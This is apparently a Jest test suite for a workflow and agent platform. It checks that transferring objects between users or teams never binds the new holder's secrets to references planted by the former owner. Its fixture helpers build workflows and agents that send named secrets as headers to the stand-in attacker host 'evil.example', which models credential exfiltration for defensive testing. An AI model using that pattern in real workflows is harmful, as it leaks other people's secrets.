/** Whoever gives an object away must not read secrets of the new holder by naming them in it. */
import { afterAll, beforeAll, expect, test } from '@jest/globals';

import { declaredSecrets } from '../../../activities/secret-arguments.ts';
import { resolveSecret } from '../../../domain/secrets/service.ts';
import { startTestApp, type Client, type Reply, type TestApp, type TestUser } from '../../support/app.ts';
import { httpTask } from '../../support/definitions.ts';
import { createdWorkflow, publishedAgent } from '../../support/marketplace.ts';

let app: TestApp;
let admin: Client;
let giver: Person;
let taker: Person;
let count = 0;

interface Person {
  user: TestUser;
  client: Client;
}

beforeAll(async () => {
  app = await startTestApp();
  admin = await app.as('admin');
});
afterAll(() => app.close());

const reading = (...names: string[]) => ({
  use: { secrets: names },
  do: names.map((name) => ({
    [name]: httpTask('https://evil.example', { headers: { 'X-Key': `\${ $secrets.${name} }` } }),
  })),
});
const agentReading = (...names: string[]) => {
  const headers = Object.fromEntries(names.map((name) => [`X-${name}`, `Bearer <${name}>`]));
  return {
    configuration: { endpoint: 'https://evil.example', headers },
    authentication_config: { token: `<${names[0]}>` },
  };
};

async function person(): Promise<Person> {
  const user = await app.createUser({ roles: ['builder'] });
  return { user, client: await app.as(user) };
}

function done(reply: Reply): any {
  if (reply.status >= 300) throw new Error(`${reply.status}: ${JSON.stringify(reply.body)}`);
  return reply.body;
}

async function newTeam(lead: Person): Promise<string> {
  count += 1;
  return done(await admin.post('/teams', { name: `team-of-secrets-${count}`, admin: lead.user.id })).id;
}

const join = async (team: string, { user }: Person, role: string): Promise<void> => {
  done(await admin.put(`/teams/${team}/members/${user.id}`, { role }));
};
const put = async ({ client }: Person, name: string, value: string, team?: string): Promise<void> => {
  done(await client.put(`/secrets/${name}${team === undefined ? '' : `?team_id=${team}`}`, { value }));
};

/** What a call of the run gets, as the worker asks for it. */
function secretOf(runId: string, name: string): Promise<string | null> {
  const { orm } = app;
  const secret = (owner: string, asked: string) =>
    resolveSecret(orm.em.fork(), app.app.deps.encryption, owner, asked);
  return declaredSecrets({ orm, secret }, { run_id: runId, secrets: [name] })(name);
}

/** A workflow whose first revision names the secrets, its second none; with a live run of the first. */
async function plantedRun(by: Client, names: string[], more = {}): Promise<{ id: string; run: string }> {
  const { id } = await createdWorkflow(by, reading(...names), more);
  const run = done(await by.post(`/workflows/${id}/run`)).id;
  const definition = { do: [{ a: httpTask('https://a.example') }], use: null };
  done(await by.patch(`/workflows/${id}`, { definition }));
  return { id, run };
}

test('a transfer binds no secret of the new owner, whatever the former owner has named', async () => {
  [giver, taker] = [await person(), await person()];
  await put(giver, 'MINE', 'of the giver');
  await put(taker, 'THEIRS', 'of the taker');
  const agent = await publishedAgent(giver.client, agentReading('THEIRS', 'LATER', 'MINE'));
  const workflow = await createdWorkflow(giver.client, reading('THEIRS', 'LATER', 'MINE'));
  const old = await plantedRun(giver.client, ['THEIRS', 'LATER', 'MINE']);
  done(await admin.post(`/users/${giver.user.id}/transfer`, { to: taker.user.id }));
  await put(taker, 'LATER', 'made after the transfer');

  const configuration = {
    headers: {
      'X-THEIRS': 'Bearer <UNBOUND:THEIRS>',
      'X-LATER': 'Bearer <UNBOUND:LATER>',
      'X-MINE': 'Bearer <MINE>',
    },
  };
  expect((await taker.client.get(`/agents/${agent.id}`)).body).toMatchObject({
    configuration,
    authentication_config: { token: '<UNBOUND:THEIRS>' },
    versions: [{ status: 'published', configuration }],
  });
  expect((await taker.client.get(`/workflows/${workflow.id}`)).body).toMatchObject({
    revision: 2,
    valid: true,
    definition: { use: { secrets: ['UNBOUND:THEIRS', 'UNBOUND:LATER', 'MINE'] } },
  });
  expect((await taker.client.get(`/workflows/${old.id}`)).body.revision).toBe(2);
  expect(await secretOf(old.run, 'MINE')).toBe('of the giver');
  for (const name of ['THEIRS', 'LATER'])
    await expect(secretOf(old.run, name)).rejects.toThrow(`The secret "${name}" is not bound`);

  // Whose own revision may read it.
  done(await taker.client.patch(`/workflows/${old.id}`, { definition: reading('THEIRS') }));
  const own = done(await taker.client.post(`/workflows/${old.id}/run`)).id;
  expect(await secretOf(own, 'THEIRS')).toBe('of the taker');
});

test('of two secrets with one name, old revisions read neither after a transfer', async () => {
  [giver, taker] = [await person(), await person()];
  await put(giver, 'KEY', 'of the giver');
  await put(taker, 'KEY', 'of the taker');
  const old = await plantedRun(giver.client, ['KEY']);
  const agent = await publishedAgent(giver.client, agentReading('KEY'));
  const { body } = await admin.post(`/users/${giver.user.id}/transfer`, { to: taker.user.id });
  expect(body.secrets_renamed).toEqual({ KEY: 'KEY_2' });
  expect((await taker.client.get(`/agents/${agent.id}`)).body.authentication_config.token).toBe('<KEY_2>');
  await expect(secretOf(old.run, 'KEY')).rejects.toThrow('The secret "KEY" is not bound');
});

test('a copy from the marketplace keeps its unbound secrets over a transfer that renames', async () => {
  [giver, taker] = [await person(), await person()];
  for (const name of ['KEY', 'OTHER']) {
    await put(giver, name, `${name} of the giver`);
    await put(taker, name, `${name} of the taker`);
  }
  const definition = {
    use: { secrets: ['UNBOUND:KEY', 'OTHER'] },
    do: reading('OTHER').do,
  };
  const workflow = await createdWorkflow(giver.client, definition);
  done(await admin.post(`/users/${giver.user.id}/transfer`, { to: taker.user.id }));
  expect((await taker.client.get(`/workflows/${workflow.id}`)).body.definition.use).toEqual({
    secrets: ['UNBOUND:KEY', 'OTHER_2'],
  });
});

test('a move to a team by somebody else binds no secret of that team', async () => {
  [giver, taker] = [await person(), await person()];
  const [from, to] = [await newTeam(taker), await newTeam(taker)];
  await join(from, giver, 'builder');
  await put(taker, 'THEIRS', 'of the team', to);
  await put(giver, 'OURS', 'of the former team', from);
  const more = { team_id: from };
  const agent = await publishedAgent(giver.client, { ...agentReading('THEIRS', 'OURS'), ...more });
  const workflow = await createdWorkflow(giver.client, reading('THEIRS', 'OURS'), more);
  const old = await plantedRun(giver.client, ['THEIRS'], more);
  const own = await publishedAgent(giver.client, agentReading('THEIRS'));
  for (const path of [`/agents/${agent.id}`, `/workflows/${workflow.id}`, `/workflows/${old.id}`])
    done(await taker.client.patch(path, { team_id: to }));
  done(await admin.patch(`/agents/${own.id}`, { team_id: to }));
  const held = async (path: string) => (await taker.client.get(path)).body;
  expect((await held(`/agents/${agent.id}`)).configuration.headers).toEqual({
    'X-THEIRS': 'Bearer <UNBOUND:THEIRS>',
    'X-OURS': 'Bearer <OURS>',
  });
  expect((await held(`/agents/${own.id}`)).authentication_config.token).toBe('<UNBOUND:THEIRS>');
  expect((await held(`/workflows/${workflow.id}`)).definition.use.secrets).toEqual([
    'UNBOUND:THEIRS',
    'OURS',
  ]);
  await expect(secretOf(old.run, 'THEIRS')).rejects.toThrow('The secret "THEIRS" is not bound');
});

test('a move back from a team binds no secret of who takes it, also together with a change', async () => {
  [giver, taker] = [await person(), await person()];
  const team = await newTeam(taker);
  await join(team, giver, 'builder');
  await put(taker, 'PRIVATE', 'of the taker');
  const more = { team_id: team };
  const agent = await publishedAgent(giver.client, { ...agentReading('PRIVATE'), ...more });
  const workflow = await createdWorkflow(giver.client, reading('PRIVATE'), more);
  const change = { team_id: null, definition: { document: { title: 'Changed' } } };
  const headers = { more: 'a header' };
  expect(
    done(
      await taker.client.patch(`/agents/${agent.id}`, {
        team_id: null,
        version: '1.1.0',
        configuration: { headers },
      }),
    ),
  ).toMatchObject({ owner_id: taker.user.id, authentication_config: { token: '<UNBOUND:PRIVATE>' } });
  const { body } = await taker.client.get(`/agents/${agent.id}`);
  expect(JSON.stringify(body)).not.toContain('<PRIVATE>');
  expect(done(await taker.client.patch(`/workflows/${workflow.id}`, change))).toMatchObject({
    owner_id: taker.user.id,
    definition: { document: { title: 'Changed' }, use: { secrets: ['UNBOUND:PRIVATE'] } },
  });
});

test('who moves what is their own into their team may use its secrets there', async () => {
  [giver, taker] = [await person(), await person()];
  const team = await newTeam(taker);
  await join(team, giver, 'builder');
  await put(taker, 'SHARED', 'of the team', team);
  const agent = await publishedAgent(giver.client, agentReading('SHARED'));
  const { id } = await createdWorkflow(giver.client, reading('SHARED'));
  const token = { token: '<SHARED>' };
  expect(done(await giver.client.patch(`/agents/${agent.id}`, { team_id: team }))).toMatchObject({
    authentication_config: token,
  });
  expect(done(await giver.client.patch(`/workflows/${id}`, { team_id: team })).revision).toBe(1);
});

test('a workflow of an ended team reads no secret of the owner whom it gets', async () => {
  [giver, taker] = [await person(), await person()];
  const team = await newTeam(taker);
  await join(team, giver, 'builder');
  await put(taker, 'PRIVATE', 'of the taker');
  const { id, run } = await plantedRun(giver.client, ['PRIVATE'], { team_id: team });
  done(await taker.client.delete(`/teams/${team}/members/${giver.user.id}`));
  done(await taker.client.delete(`/workflows/${id}`));
  done(await taker.client.delete(`/teams/${team}`));
  await expect(secretOf(run, 'PRIVATE')).rejects.toThrow('The secret "PRIVATE" is not bound');
});
